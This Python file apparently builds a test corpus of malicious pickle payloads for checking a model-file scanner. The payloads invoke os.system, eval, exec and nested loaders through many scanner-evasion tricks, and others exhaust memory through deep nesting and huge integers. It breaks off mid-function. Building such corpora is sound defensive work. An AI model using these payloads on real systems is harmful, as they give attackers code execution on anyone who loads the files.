"""Attacks on whoever reads a pickle: names that are hidden, and shapes that exhaust."""

from __future__ import annotations

import base64
import marshal
import pickle

from attacks.attack import Collection
from attacks.streams import (
    STOP,
    blob,
    call,
    command,
    legacy_stream,
    name,
    payload,
    short_text,
    source,
    stack_name,
    state_dict,
    system,
    text,
    torch_zip,
    u4,
    u8,
)

ATTACKS = Collection([])
attack = ATTACKS

# --- Ways to make a call -------------------------------------------------------------------------

for protocol in range(6):

    class _Touch:
        def __init__(self, marker: str) -> None:
            self.marker = marker

        def __reduce__(self) -> tuple[object, ...]:
            import os

            return os.system, (command(self.marker),)

    ATTACKS.add(
        "known gadgets",
        "dangerous",
        f"os system in protocol {protocol}",
        lambda marker, protocol=protocol, cls=_Touch: pickle.dumps(cls(marker), protocol),
        proof="pickle",
    )


@attack("INST", "dangerous", proof="pickle")
def inst(marker: str) -> bytes:
    return f"(S'{command(marker)}'\niposix\nsystem\n.".encode()


@attack("INST", "dangerous", proof="pickle")
def inst_in_a_list(marker: str) -> bytes:
    return b"](I1\n" + f"(S'{command(marker)}'\niposix\nsystem\n".encode() + b"I2\ne."


@attack("INST", "dangerous", proof="pickle")
def inst_with_an_argument_from_the_memo(marker: str) -> bytes:
    return f"S'{command(marker)}'\np7\n0(g7\niposix\nsystem\n.".encode()


@attack("INST", "dangerous", proof="pickle")
def inst_under_its_name_in_python_2(marker: str) -> bytes:
    return f'(S"{source(marker)}"\ni__builtin__\neval\n.'.encode()


@attack("OBJ", "dangerous", proof="pickle")
def obj(marker: str) -> bytes:
    return b"(" + name("posix", "system") + text(command(marker)) + b"o."


@attack("OBJ", "dangerous", proof="pickle")
def obj_with_a_class_from_the_memo(marker: str) -> bytes:
    return name("posix", "system") + b"p0\n0(g0\n" + text(command(marker)) + b"o."


@attack("OBJ", "dangerous", proof="pickle")
def obj_that_is_dropped(marker: str) -> bytes:
    return b"(" + name("posix", "system") + text(command(marker)) + b"o0}."


@attack("OBJ", "dangerous", proof="pickle")
def obj_of_a_class_that_runs_when_it_is_made(marker: str) -> bytes:
    words = b"](" + text("touch") + text(marker) + b"e"
    return b"\x80\x04(" + name("subprocess", "Popen") + words + b"o."


@attack("POP", "dangerous", proof="pickle")
def popped(marker: str) -> bytes:
    return system(marker) + b"0" + state_dict()[2:]


@attack("POP", "dangerous", proof="pickle")
def popped_with_a_mark(marker: str) -> bytes:
    return b"}(" + system(marker) + b"1."


@attack("POP", "dangerous", proof="pickle")
def dropped_by_stop(marker: str) -> bytes:
    return system(marker) + b"}."


@attack("POP", "dangerous", proof="pickle")
def overwritten_in_a_dict(marker: str) -> bytes:
    return b"}" + text("a") + system(marker) + b"s" + text("a") + b"Ns."


@attack("POP", "dangerous")
def popped_in_a_state_dict(marker: str) -> bytes:
    return torch_zip(state_dict(system(marker)))


# --- Names ---------------------------------------------------------------------------------------


@attack("names from the memo", "dangerous", proof="pickle")
def names_from_a_list_of_words(marker: str) -> bytes:
    words = b"](" + short_text("posix") + b"\x94" + short_text("system") + b"\x94e0"
    return b"\x80\x04" + words + b"h\x00h\x01\x93" + text(command(marker)) + b"\x85R."


@attack("names from the memo", "dangerous", proof="pickle")
def names_that_take_the_place_of_others(marker: str) -> bytes:
    first = short_text("collections") + b"q\x05" + short_text("OrderedDict") + b"q\x0600"
    second = short_text("posix") + b"q\x05" + short_text("system") + b"q\x0600"
    use = b"h\x05h\x06\x93" + text(command(marker)) + b"\x85R."
    return b"\x80\x04" + first + second + use


@attack("names from the memo", "dangerous", proof="pickle")
def names_from_text_indices(marker: str) -> bytes:
    words = b"Vposix\np007\n0Vsystem\np8\n0"
    return b"\x80\x04" + words + b"g7\ng008\n\x93" + text(command(marker)) + b"\x85R."


@attack("names from the memo", "dangerous", proof="pickle")
def a_name_that_is_doubled(marker: str) -> bytes:
    word = short_text("posix") + b"2\x94" + b"0" + short_text("system")
    return b"\x80\x04" + word + b"\x93" + text(command(marker)) + b"\x85R."


@attack("names from the memo", "dangerous", proof="pickle")
def a_callable_from_the_memo(marker: str) -> bytes:
    held = name("posix", "system") + b"q\x090"
    return held + b"]" + text("x") + b"a0h\x09" + text(command(marker)) + b"\x85R."


@attack("names made at run time", "dangerous", proof="pickle")
def a_name_that_is_decoded(marker: str) -> bytes:
    module = call(name("_codecs", "decode"), blob(b"posix"), text("ascii"))
    use = b"\x93" + text(command(marker)) + b"\x85R."
    return b"\x80\x04" + module + text("system") + use


def _joined(*pieces: str) -> bytes:
    """Return the opcodes that put a text together while they run."""
    join = call(name("builtins", "getattr"), text(""), text("join"))
    return join + b"(](" + b"".join(map(text, pieces)) + b"etR"


@attack("names made at run time", "dangerous", proof="pickle")
def a_name_that_is_joined(marker: str) -> bytes:
    use = b"\x93" + text(command(marker)) + b"\x85R."
    return b"\x80\x04" + _joined("po", "six") + _joined("sys", "tem") + use


@attack("names made at run time", "dangerous", proof="pickle")
def a_name_from_character_codes(marker: str) -> bytes:
    letters = [call(name("builtins", "chr"), b"K" + bytes([code])) for code in b"posix"]
    join = call(name("builtins", "getattr"), text(""), text("join"))
    module = join + b"(](" + b"".join(letters) + b"etR"
    return b"\x80\x04" + module + text("system") + b"\x93" + text(command(marker)) + b"\x85R."


@attack("names made at run time", "dangerous", proof="pickle")
def a_name_that_is_reversed(marker: str) -> bytes:
    backwards = call(name("builtins", "reversed"), text("metsys"))
    join = call(name("builtins", "getattr"), text(""), text("join"))
    use = b"\x93" + text(command(marker)) + b"\x85R."
    return b"\x80\x04" + text("posix") + call(join, backwards) + use


@attack("names made at run time", "dangerous", proof="pickle")
def a_name_that_is_added_up(marker: str) -> bytes:
    module = call(name("operator", "add"), text("po"), text("six"))
    return b"\x80\x04" + module + text("system") + b"\x93" + text(command(marker)) + b"\x85R."


for module, attribute in (
    ("random", "_os.system"),
    ("torch.serialization", "os.system"),
    ("collections", "abc.sys.modules"),
    ("pathlib", "os.system"),
    ("argparse", "_os.system"),
    ("torch.nn.modules.module", "functools.sys.modules"),
    ("collections", "_sys.modules"),
    ("numpy", "os.system"),
):
    ATTACKS.add(
        "dotted names",
        "dangerous",
        f"through {module} to {attribute}",
        lambda marker, module=module, attribute=attribute: (
            b"\x80\x04" + call(stack_name(module, attribute), text(command(marker))) + STOP
        ),
        proof="pickle" if (module, attribute) in [("random", "_os.system")] else "",
    )


@attack("dotted names", "dangerous", proof="pickle")
def through_the_globals_of_a_method(marker: str) -> bytes:
    members = stack_name("argparse", "Namespace.__init__.__globals__")
    get = call(name("builtins", "getattr"), members, text("get"))
    module = get + b"(" + text("_os") + b"tR"
    function = call(name("builtins", "getattr"), module, text("system"))
    return b"\x80\x04" + function + text(command(marker)) + b"\x85R."


@attack("dotted names", "dangerous")
def through_the_subclasses_of_object(marker: str) -> bytes:
    return (
        b"\x80\x04" + call(stack_name("collections", "OrderedDict.__base__.__subclasses__")) + STOP
    )


# --- Several pickles, and states -----------------------------------------------------------------


@attack("stacked pickles", "ambiguous", proof="stacked")
def a_second_pickle(marker: str) -> bytes:
    return b"\x80\x02}." + payload(marker)


@attack("stacked pickles", "ambiguous", proof="stacked")
def a_third_pickle_after_text(marker: str) -> bytes:
    return b"(dp0\n.(lp0\n." + payload(marker)


@attack("stacked pickles", "ambiguous")
def a_second_pickle_in_the_record(marker: str) -> bytes:
    return torch_zip(state_dict() + payload(marker))


@attack("stacked pickles", "dangerous", suffix=".pth", proof="torch")
def in_the_system_information_of_a_stream(marker: str) -> bytes:
    return legacy_stream(info=payload(marker))


@attack("stacked pickles", "dangerous", suffix=".pth", proof="torch")
def in_the_object_of_a_stream(marker: str) -> bytes:
    return legacy_stream(root=b"\x80\x02" + system(marker) + b"0}.")


@attack("stacked pickles", "dangerous", suffix=".pth", proof="torch")
def in_the_list_of_storages_of_a_stream(marker: str) -> bytes:
    return legacy_stream(keys=b"\x80\x02" + system(marker) + b"0].")


@attack("BUILD on a global", "dangerous", proof="pickle")
def a_module_gets_another_function(marker: str) -> bytes:
    # The call at the end names nothing but codecs.encode.
    swap = name("encodings", "codecs") + b"}" + text("encode") + name("posix", "system") + b"sb0"
    return b"\x80\x04" + swap + call(name("codecs", "encode"), text(command(marker))) + STOP


@attack("BUILD on a global", "dangerous")
def an_allowed_module_of_torch_gets_another_function(marker: str) -> bytes:
    swap = name("torch", "_utils") + b"}" + text("_rebuild_tensor_v2")
    swap += name("torch.hub", "load") + b"sb0"
    use = call(name("torch._utils", "_rebuild_tensor_v2"), text(marker))
    return torch_zip(b"\x80\x02" + swap + use + STOP)


@attack("BUILD on a global", "dangerous")
def a_class_gets_another_method(marker: str) -> bytes:
    return (
        b"\x80\x02" + name("collections", "OrderedDict") + b"}" + text("x") + text(marker) + b"sb."
    )


@attack("BUILD on a global", "dangerous")
def builtins_as_the_shape_of_a_function(marker: str) -> bytes:
    size = name("numpy", "size")
    state = b"}}" + text("shape") + name("numpy", "__builtins__") + b"s\x86b"
    evaluate = size + text("eval")
    return (
        b"\x80\x04" + size + state + b"0" + call(size, evaluate) + text(source(marker)) + b"\x85R."
    )


@attack("BUILD on a global", "dangerous")
def an_item_of_a_global(marker: str) -> bytes:
    return b"\x80\x02" + name("torch", "Size") + text("x") + text(marker) + b"s."


for width, opcode in ((1, b"\x82"), (2, b"\x83"), (4, b"\x84")):
    ATTACKS.add(
        "extension codes",
        "dangerous",
        f"an extension code of {width} bytes",
        lambda marker, width=width, opcode=opcode: (
            b"\x80\x02" + opcode + b"\x07".ljust(width, b"\0") + text(command(marker)) + b"\x85R."
        ),
    )


# --- Persistent ids ------------------------------------------------------------------------------


@attack("persistent ids", "ambiguous")
def a_persistent_id_as_text(marker: str) -> bytes:
    return f"(P{marker}\nl.".encode()


@attack("persistent ids", "dangerous", proof="pickle")
def a_persistent_id_after_a_call(marker: str) -> bytes:
    return b"\x80\x02" + system(marker) + b"Q."


@attack("persistent ids", "dangerous")
def a_persistent_id_of_a_storage_of_another_class(marker: str) -> bytes:
    pid = text("storage") + name("posix", "system") + text("0") + text("cpu") + b"K\x04"
    return torch_zip(b"\x80\x02(" + pid + b"tQ.")


@attack("persistent ids", "ambiguous")
def a_persistent_id_of_another_kind(marker: str) -> bytes:
    pid = text("module") + name("collections", "OrderedDict") + text("a.py") + text(source(marker))
    return torch_zip(b"\x80\x02(" + pid + b"tQ.")


@attack("persistent ids", "needs-trust", suffix=".pth")
def a_class_with_source_text_in_a_stream(marker: str) -> bytes:
    pid = text("module") + name("project", "Net") + text("a.py") + text(source(marker))
    return legacy_stream(root=b"\x80\x02(" + pid + b"tQ)R.")


# --- The memo ------------------------------------------------------------------------------------


@attack("memo type confusion", "dangerous", proof="pickle")
def memoize_counts_what_was_put(marker: str) -> bytes:
    # With one entry, under 1, MEMOIZE stores under 1: the C unpickler counts entries.
    words = short_text("collections") + b"q\x01" + short_text("posix") + b"\x9400"
    use = b"h\x01" + short_text("system") + b"\x93" + text(command(marker)) + b"\x85R."
    return b"\x80\x04" + words + use


@attack("memo type confusion", "dangerous")
def a_name_that_is_a_number(marker: str) -> bytes:
    return b"\x80\x04K\x2a\x94" + short_text("system") + b"\x93" + text(marker) + b"\x85R."


@attack("memo type confusion", "dangerous")
def a_name_that_is_bytes(marker: str) -> bytes:
    return b"\x80\x04C\x05posix" + b"C\x06system" + b"\x93" + text(marker) + b"\x85R."


@attack("memo type confusion", "dangerous", proof="pickle")
def a_mark_between_name_and_memo(marker: str) -> bytes:
    words = short_text("posix") + b"\x94(" + short_text("unknown") + b"0" + b"1"
    use = short_text("system") + b"\x93" + text(command(marker)) + b"\x85R."
    return b"\x80\x04" + words + use


@attack("memo type confusion", "dangerous", proof="pickle")
def a_missing_entry_after_the_payload(marker: str) -> bytes:
    return b"\x80\x02" + system(marker) + b"h\xff."


@attack("memo type confusion", "dangerous", proof="pickle")
def words_that_no_name_uses(marker: str) -> bytes:
    # Whoever takes the last two words before STACK_GLOBAL for the name reads "collections".
    decoy = short_text("collections") + short_text("OrderedDict") + b"00"
    use = short_text("posix") + short_text("system") + decoy + b"\x93"
    return b"\x80\x04" + use + text(command(marker)) + b"\x85R."


# --- Shapes that exhaust -------------------------------------------------------------------------

DEPTH = 100_000


@attack("expansion", "ambiguous")
def a_list_that_unfolds(marker: str) -> bytes:
    return b"\x80\x02](X" + u4(1) + b"me" + b"q\x000](h\x00h\x00e" * 100 + STOP


@attack("expansion", "ambiguous")
def tuples_that_unfold(marker: str) -> bytes:
    return b"\x80\x02)" + b"2\x86" * 200 + STOP


@attack("expansion", "dangerous", proof="pickle")
def a_payload_behind_a_list_that_unfolds(marker: str) -> bytes:
    return b"\x80\x02]" + b"q\x000](h\x00h\x00e" * 100 + b"0" + payload(marker)[2:]


@attack("expansion", "ambiguous")
def copies_of_copies(marker: str) -> bytes:
    made = name("builtins", "list") + b"(" + b"N" * 50_000 + b"l\x85q\x010q\x000"
    return b"\x80\x02" + made + b"h\x00h\x01R" * 20_000 + STOP


@attack("expansion", "ambiguous")
def a_key_that_takes_for_ever_to_hash(marker: str) -> bytes:
    return b"\x80\x02})" + b"2\x86" * 60 + b"Ns."


@attack("cycles", "dangerous", proof="pickle")
def a_list_in_itself(marker: str) -> bytes:
    return b"\x80\x02]q\x00h\x00a" + system(marker) + b"a."


@attack("cycles", "dangerous", proof="pickle")
def a_dict_in_itself(marker: str) -> bytes:
    return b"\x80\x02}q\x00" + text("a") + h0() + b"s" + text("b") + system(marker) + b"s."


@attack("cycles", "dangerous", proof="pickle")
def a_tuple_in_its_own_list(marker: str) -> bytes:
    return b"\x80\x02]q\x00(h\x00" + system(marker) + b"tq\x01a."


@attack("cycles", "needs-trust")
def an_object_that_holds_itself(marker: str) -> bytes:
    made = name("project", "Net") + b")\x81q\x00}" + text("me") + h0() + b"sb"
    return b"\x80\x02" + made + STOP


def h0() -> bytes:
    return b"h\x00"


@attack("huge integers", "dangerous", proof="pickle")
def a_payload_behind_a_huge_integer(marker: str) -> bytes:
    return b"\x80\x02\x8b" + u4(1 << 18) + b"\x7f" * (1 << 18) + b"0" + payload(marker)[2:]


@attack("huge integers", "dangerous", proof="pickle")
def a_payload_before_an_integer_of_many_digits(marker: str) -> bytes:
    return b"\x80\x02" + system(marker) + b"I" + b"9" * 100_000 + b"\n."


@attack("huge integers", "ambiguous")
def a_huge_integer_as_a_key(marker: str) -> bytes:
    return b"\x80\x02}\x8b" + u4(1 << 20) + b"\x7f" * (1 << 20) + b"Ns."


@attack("huge integers", "dangerous", proof="pickle")
def an_integer_of_negative_length(marker: str) -> bytes:
    return b"\x80\x02" + system(marker) + b"\x8b\xff\xff\xff\xff."


@attack("deep nesting", "ambiguous")
def deep_lists(marker: str) -> bytes:
    return b"\x80\x02" + b"(" * DEPTH + b"l" * DEPTH + STOP


@attack("deep nesting", "ambiguous")
def deep_tuples(marker: str) -> bytes:
    return b"\x80\x02)" + b"\x85" * DEPTH + STOP


@attack("deep nesting", "ambiguous")
def a_deep_key(marker: str) -> bytes:
    return b"\x80\x02})" + b"\x85" * DEPTH + b"Ns."


@attack("deep nesting", "dangerous", proof="pickle")
def a_payload_behind_deep_lists(marker: str) -> bytes:
    return b"\x80\x02" + b"(" * DEPTH + b"l" * DEPTH + b"0" + payload(marker)[2:]


@attack("deep nesting", "dangerous")
def a_payload_deep_inside(marker: str) -> bytes:
    return b"\x80\x02" + b"(" * 5000 + system(marker) + b"l" * 5000 + STOP


@attack("deep nesting", "needs-trust")
def deep_states(marker: str) -> bytes:
    return b"\x80\x02" + name("project", "Net") + b")\x81" + b"Nb" * DEPTH + STOP


@attack("long strings", "dangerous", proof="pickle")
def a_payload_behind_a_long_text(marker: str) -> bytes:
    return b"\x80\x02" + text("x" * (1 << 20)) + b"0" + payload(marker)[2:]


@attack("long strings", "needs-trust")
def a_name_of_a_megabyte(marker: str) -> bytes:
    return b"\x80\x02" + name("a" * (1 << 20), "b") + STOP


@attack("long strings", "dangerous", proof="pickle")
def a_length_behind_the_end(marker: str) -> bytes:
    return b"\x80\x04" + system(marker) + b"\x8d" + u8(1 << 60) + b"x."


@attack("long strings", "dangerous", proof="pickle")
def a_text_without_an_end(marker: str) -> bytes:
    return b"\x80\x02" + system(marker) + b"V" + b"x" * 10_000


@attack("long strings", "needs-trust")
def ten_thousand_names(marker: str) -> bytes:
    return b"\x80\x02" + b"".join(b"cm\nn%d\n0" % n for n in range(10_000)) + b"N."


@attack("frames", "dangerous", proof="pickle")
def a_frame_that_is_too_long(marker: str) -> bytes:
    return b"\x80\x04" + system(marker) + b"\x95" + u8(1 << 40) + b"N."


@attack("frames", "ambiguous")
def an_opcode_over_the_end_of_its_frame(marker: str) -> bytes:
    return b"\x80\x04\x95\x02" + b"\0" * 7 + b"J\x01\x00\x00\x00."


@attack("frames", "ambiguous")
def a_frame_in_a_frame(marker: str) -> bytes:
    return b"\x80\x04\x95\x14" + b"\0" * 7 + b"\x95\x02" + b"\0" * 7 + b"N." + b"N" * 12


@attack("frames", "dangerous", proof="pickle")
def a_buffer_that_is_not_there(marker: str) -> bytes:
    return b"\x80\x05" + system(marker) + b"\x97."


@attack("frames", "dangerous", proof="pickle")
def a_protocol_that_does_not_exist(marker: str) -> bytes:
    return b"\x80\x02" + system(marker) + b"\x80\x63."


# --- Code that is found, made or read at run time ------------------------------------------------


def _text_command(marker: str) -> bytes:
    return text(command(marker))


def _imported(module: str) -> bytes:
    return call(name("importlib", "import_module"), text(module))


@attack("indirect resolvers", "dangerous", proof="pickle")
def getattr_of_an_imported_module(marker: str) -> bytes:
    found = call(name("builtins", "getattr"), _imported("os"), text("system"))
    return b"\x80\x02" + found + _text_command(marker) + b"\x85R."


@attack("indirect resolvers", "dangerous", proof="pickle")
def attrgetter(marker: str) -> bytes:
    getter = call(name("operator", "attrgetter"), text("system"))
    found = getter + b"(" + call(name("builtins", "__import__"), text("os")) + b"tR"
    return b"\x80\x02" + found + _text_command(marker) + b"\x85R."


@attack("indirect resolvers", "dangerous", proof="pickle")
def methodcaller(marker: str) -> bytes:
    caller = call(name("_operator", "methodcaller"), text("system"), _text_command(marker))
    return b"\x80\x02" + caller + b"(" + _imported("os") + b"tR."


@attack("indirect resolvers", "dangerous", proof="pickle")
def partial(marker: str) -> bytes:
    made = call(name("functools", "partial"), name("posix", "system"), _text_command(marker))
    return b"\x80\x02" + made + b")R."


@attack("indirect resolvers", "dangerous", proof="pickle")
def reduce_with_getattr(marker: str) -> bytes:
    path = b"](" + _imported("os") + text("system") + b"e"
    found = call(name("functools", "reduce"), name("builtins", "getattr"), path)
    return b"\x80\x02" + found + _text_command(marker) + b"\x85R."


@attack("indirect resolvers", "dangerous", proof="pickle")
def resolve_name(marker: str) -> bytes:
    found = call(name("pkgutil", "resolve_name"), text("os:system"))
    return b"\x80\x02" + found + _text_command(marker) + b"\x85R."


@attack("indirect resolvers", "dangerous", proof="pickle")
def locate(marker: str) -> bytes:
    found = call(name("pydoc", "locate"), text("os.system"))
    return b"\x80\x02" + found + _text_command(marker) + b"\x85R."


@attack("indirect resolvers", "dangerous", proof="pickle")
def the_resolver_of_logging(marker: str) -> bytes:
    found = call(name("logging.config", "_resolve"), text("os.system"))
    return b"\x80\x02" + found + _text_command(marker) + b"\x85R."


@attack("indirect resolvers", "dangerous", proof="pickle")
def the_table_of_modules(marker: str) -> bytes:
    module = call(name("_operator", "getitem"), name("sys", "modules"), text("posix"))
    found = call(name("builtins", "getattr"), module, text("system"))
    return b"\x80\x02" + found + _text_command(marker) + b"\x85R."


@attack("indirect resolvers", "dangerous", proof="pickle")
def a_map_that_is_turned_into_a_list(marker: str) -> bytes:
    lazily = call(
        name("builtins", "map"), name("posix", "system"), b"](" + _text_command(marker) + b"e"
    )
    return b"\x80\x03" + call(name("builtins", "list"), lazily) + STOP


@attack("indirect resolvers", "dangerous", proof="pickle")
def a_default_factory(marker: str) -> bytes:
    bound = call(name("functools", "partial"), name("posix", "system"), _text_command(marker))
    factory = call(name("collections", "defaultdict"), bound)
    missing = call(name("_operator", "getitem"), factory, text("x"))
    return b"\x80\x02" + missing + STOP


for module, attribute, arguments in (
    ("torch._utils", "_import_dotted_name", (text("os.system"),)),
    ("unittest.mock", "_importer", (text("os"),)),
    ("xmlrpc.server", "resolve_dotted_attribute", (name("random", "Random"), text("x"))),
    ("hydra.utils", "get_method", (text("os.system"),)),
    ("hydra._internal.utils", "_locate", (text("os.system"),)),
    ("werkzeug.utils", "import_string", (text("os.system"),)),
    ("django.utils.module_loading", "import_string", (text("os.system"),)),
    ("inspect", "getattr_static", (name("random", "Random"), text("x"))),
    ("builtins", "__import__", (text("os"),)),
    ("builtins", "vars", ()),
    ("builtins", "globals", ()),
    ("mmengine.utils", "import_modules_from_strings", (text("os"),)),
    ("detectron2.utils.registry", "locate", (text("os.system"),)),
):
    ATTACKS.add(
        "indirect resolvers",
        "dangerous",
        f"{module} {attribute}",
        lambda marker, module=module, attribute=attribute, arguments=arguments: (
            b"\x80\x04"
            + call(stack_name(module, attribute), *arguments)
            + text(command(marker))
            + b"\x85R."
        ),
    )

for module, attribute in (
    ("torch", "load"),
    ("torch.serialization", "load"),
    ("torch.serialization", "_legacy_load"),
    ("torch.jit", "load"),
    ("torch.jit._serialization", "load"),
    ("torch.hub", "load"),
    ("torch.hub", "load_state_dict_from_url"),
    ("torch.package", "PackageImporter"),
    ("torch.distributed.checkpoint", "load"),
    ("numpy", "load"),
    ("numpy.lib._npyio_impl", "load"),
    ("numpy.lib.npyio", "load"),
    ("numpy.lib.format", "read_array"),
    ("numpy", "fromfile"),
    ("numpy", "memmap"),
    ("joblib", "load"),
    ("joblib.numpy_pickle", "load"),
    ("sklearn.externals.joblib", "load"),
    ("pandas", "read_pickle"),
    ("pandas.io.pickle", "read_pickle"),
    ("pandas.io.parsers.readers", "read_csv"),
    ("shelve", "open"),
    ("dill", "load"),
    ("cloudpickle", "load"),
    ("six.moves.cPickle", "load"),
    ("keras.models", "load_model"),
    ("keras.src.saving.saving_api", "load_model"),
    ("tensorflow.python.framework.load_library", "load_op_library"),
    ("transformers", "AutoModel.from_pretrained"),
):
    ATTACKS.add(
        "redirected loaders",
        "dangerous",
        f"{module} {attribute}",
        lambda marker, module=module, attribute=attribute: (
            b"\x80\x04" + call(stack_name(module, attribute), text(f"/nonexistent/{marker}")) + STOP
        ),
    )


@attack("code objects", "dangerous", proof="pickle")
def marshalled_code(marker: str) -> bytes:
    code = marshal.dumps(compile(source(marker), "", "exec"))
    loaded = call(name("marshal", "loads"), blob(code))
    scope = b"}" + text("__builtins__") + name("builtins", "__dict__") + b"s"
    function = call(name("types", "FunctionType"), loaded, scope)
    return b"\x80\x03" + function + b")R."


@attack("code objects", "dangerous", proof="pickle")
def executed_code(marker: str) -> bytes:
    code = marshal.dumps(compile(source(marker), "", "exec"))
    return (
        b"\x80\x03"
        + call(name("builtins", "exec"), call(name("marshal", "loads"), blob(code)))
        + STOP
    )


@attack("code objects", "dangerous", proof="pickle")
def evaluated_text(marker: str) -> bytes:
    return b"\x80\x02" + call(name("__builtin__", "eval"), text(source(marker))) + STOP


@attack("code objects", "dangerous", proof="pickle")
def compiled_text(marker: str) -> bytes:
    code = call(name("builtins", "compile"), text(source(marker)), text("a"), text("exec"))
    return b"\x80\x03" + call(name("builtins", "eval"), code) + STOP


for module, attribute, verdict in (
    ("types", "CodeType", "dangerous"),
    ("types", "LambdaType", "dangerous"),
    ("types", "ModuleType", "dangerous"),
    ("torch.fx._symbolic_trace", "_exec_with_source", "dangerous"),
    ("dill._dill", "_eval_repr", "dangerous"),
    # Honest files hold functions in this way; called by the file itself, they would be worse.
    ("cloudpickle.cloudpickle", "_make_function", "needs-trust"),
    ("cloudpickle.cloudpickle", "subimport", "needs-trust"),
    ("dill._dill", "_create_code", "needs-trust"),
    ("dill._dill", "_create_function", "needs-trust"),
):
    ATTACKS.add(
        "code objects",
        verdict,
        f"{module} {attribute}",
        lambda marker, module=module, attribute=attribute: (
            b"\x80\x04" + call(stack_name(module, attribute), text(source(marker))) + STOP
        ),
    )


@attack("code objects", "dangerous")
def a_function_of_cloudpickle_that_is_called(marker: str) -> bytes:
    make = stack_name("cloudpickle.cloudpickle", "_make_function")
    code_type = call(stack_name("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType"))
    code = code_type + b"(" + blob(b"\x97\x00d\x00S\x00") + b"tR"
    return b"\x80\x04" + call(make, code, b"}", b"N", b"N", b"N") + b")R."


@attack("code objects", "dangerous")
def a_module_of_cloudpickle_that_is_used(marker: str) -> bytes:
    module = call(stack_name("cloudpickle.cloudpickle", "subimport"), text("os"))
    found = call(name("builtins", "getattr"), module, text("system"))
    return b"\x80\x04" + found + text(command(marker)) + b"\x85R."


@attack("nested pickles", "dangerous", proof="pickle")
def pickle_loads(marker: str) -> bytes:
    return b"\x80\x03" + call(name("pickle", "loads"), blob(payload(marker))) + STOP


@attack("nested pickles", "dangerous", proof="pickle")
def pickle_loads_in_c(marker: str) -> bytes:
    return b"\x80\x03" + call(name("_pickle", "loads"), blob(payload(marker))) + STOP


@attack("nested pickles", "dangerous", proof="pickle")
def unpickler_of_pickled_bytes(marker: str) -> bytes:
    inner = base64.b64encode(payload(marker)).decode()
    data = call(name("base64", "b64decode"), text(inner))
    return b"\x80\x03" + call(name("pickle", "loads"), data) + STOP


@attack("nested pickles", "dangerous", proof="torch-pickle")
def torch_storage_from_a_stream(marker: str) -> bytes:
    inner = legacy_stream(root=payload(marker))
    return b"\x80\x03" + call(name("torch.storage", "_load_from_bytes"), blob(inner)) + STOP


@attack("nested pickles", "dangerous", proof="torch-pickle")
def torch_storage_from_an_archive(marker: str) -> bytes:
    inner = torch_zip(payload(marker))
    return b"\x80\x03" + call(name("torch.storage", "_load_from_bytes"), blob(inner)) + STOP


@attack("nested pickles", "dangerous", suffix=".pth", proof="torch")
def torch_storage_in_an_archive(marker: str) -> bytes:
    inner = legacy_stream(root=payload(marker))
    loaded = call(name("torch.storage", "_load_from_bytes"), blob(inner))
    return torch_zip(b"\x80\x03}" + text("w") + loaded + b"s.")


@attack("nested pickles", "dangerous")
def three_pickles_deep(marker: str) -> bytes:
    data = legacy_stream(root=payload(marker))
    for _ in range(3):
        loaded = call(name("torch.storage", "_load_from_bytes"), blob(data))
        data = legacy_stream(root=b"\x80\x03" + loaded + STOP)
    return data


@attack("nested pickles", "dangerous")
def a_hundred_pickles_deep(marker: str) -> bytes:
    data = legacy_stream(root=payload(marker))
    for _ in range(100):
        loaded = call(name("torch.storage", "_load_from_bytes"), blob(data))
        data = legacy_stream(root=b"\x80\x03" + loaded + STOP)
    return data


@attack("nested pickles", "dangerous")
def bytes_for_a_loader_that_nobody_knows(marker: str) -> bytes:
    return b"\x80\x03" + call(name("project.blobs", "unpack"), blob(payload(marker))) + STOP


@attack("nested pickles", "dangerous")
def bytes_in_the_state_of_an_object(marker: str) -> bytes:
    made = name("project", "Net") + b")\x81}" + text("blob") + blob(payload(marker)) + b"sb"
    return b"\x80\x03" + made + STOP


# --- A loader that is kept for something else to call --------------------------------------------

_LOADER = name("torch.storage", "_load_from_bytes")
_NAMESPACE = name("argparse", "Namespace") + b")\x81"


def _text_payload(marker: str) -> bytes:
    """Return a pickle of protocol 0, which looks like no pickle."""
    return f"cposix\nsystem\n(S'{command(marker)}'\ntR.".encode()


def _with_method(target: bytes, method: str) -> bytes:
    return target + b"}" + text(method) + _LOADER + b"sb"


@attack("calls by Python itself", "dangerous", proof="torch-pickle")
def a_loader_that_a_rebuilder_calls(marker: str) -> bytes:
    arguments = (_LOADER, name("torch", "Tensor"), blob(_text_payload(marker)) + b"\x85", b"N")
    return b"\x80\x03" + call(name("torch._tensor", "_rebuild_from_type_v2"), *arguments) + STOP


@attack("calls by Python itself", "dangerous", proof="torch-pickle")
def a_loader_as_the_setstate_of_an_object(marker: str) -> bytes:
    set_it = _with_method(_NAMESPACE, "__setstate__") + blob(_text_payload(marker)) + b"b"
    return b"\x80\x03" + set_it + b"0}."


@attack("calls by Python itself", "dangerous", suffix=".pth", proof="torch")
def a_loader_as_the_setstate_of_a_dictionary(marker: str) -> bytes:
    table = call(name("collections", "OrderedDict"))
    set_it = _with_method(table, "__setstate__") + blob(payload(marker)) + b"b"
    return torch_zip(state_dict(set_it))


@attack("calls by Python itself", "dangerous", proof="torch-pickle")
def a_loader_as_the_append_of_an_object(marker: str) -> bytes:
    return b"\x80\x03" + _with_method(_NAMESPACE, "append") + blob(_text_payload(marker)) + b"a."


@attack("calls by Python itself", "dangerous", proof="torch-pickle")
def a_loader_from_the_memo_that_was_called_before(marker: str) -> bytes:
    first = _LOADER + b"q\x01" + blob(legacy_stream(root=b"\x80\x02N.")) + b"\x85R0"
    kept = _NAMESPACE + b"}" + text("append") + b"h\x01sb"
    return b"\x80\x03" + first + kept + blob(_text_payload(marker)) + b"a."


@attack("calls by Python itself", "dangerous", proof="torch-pickle")
def a_loader_that_is_doubled(marker: str) -> bytes:
    twice = text("append") + _LOADER + b"2" + blob(legacy_stream(root=b"\x80\x02N."))
    return (
        b"\x80\x03" + _NAMESPACE + b"}" + twice + b"\x85R0sb" + blob(_text_payload(marker)) + b"a."
    )


# --- Dtypes that make addresses of numbers -------------------------------------------------------


def _dtype(code: str, size: int, flags: int, fields: bytes = b"NN") -> bytes:
    made = call(name("numpy", "dtype"), text(code), b"\x89", b"\x88")
    sizes = 2 * (b"J" + size.to_bytes(4, "little", signed=True))
    return made + b"(K\x03" + text("|") + b"N" + fields + sizes + b"K" + bytes([flags]) + b"tb"


def _array(dtype: bytes, after: bytes = b"") -> bytes:
    arguments = (name("numpy", "ndarray"), b"K\x00\x85", blob(b"b"))
    made = call(name("numpy._core.multiarray", "_reconstruct"), *arguments)
    state = b"(K\x01K\x01\x85" + dtype + b"\x89" + blob(b"A" * 8) + b"tb"
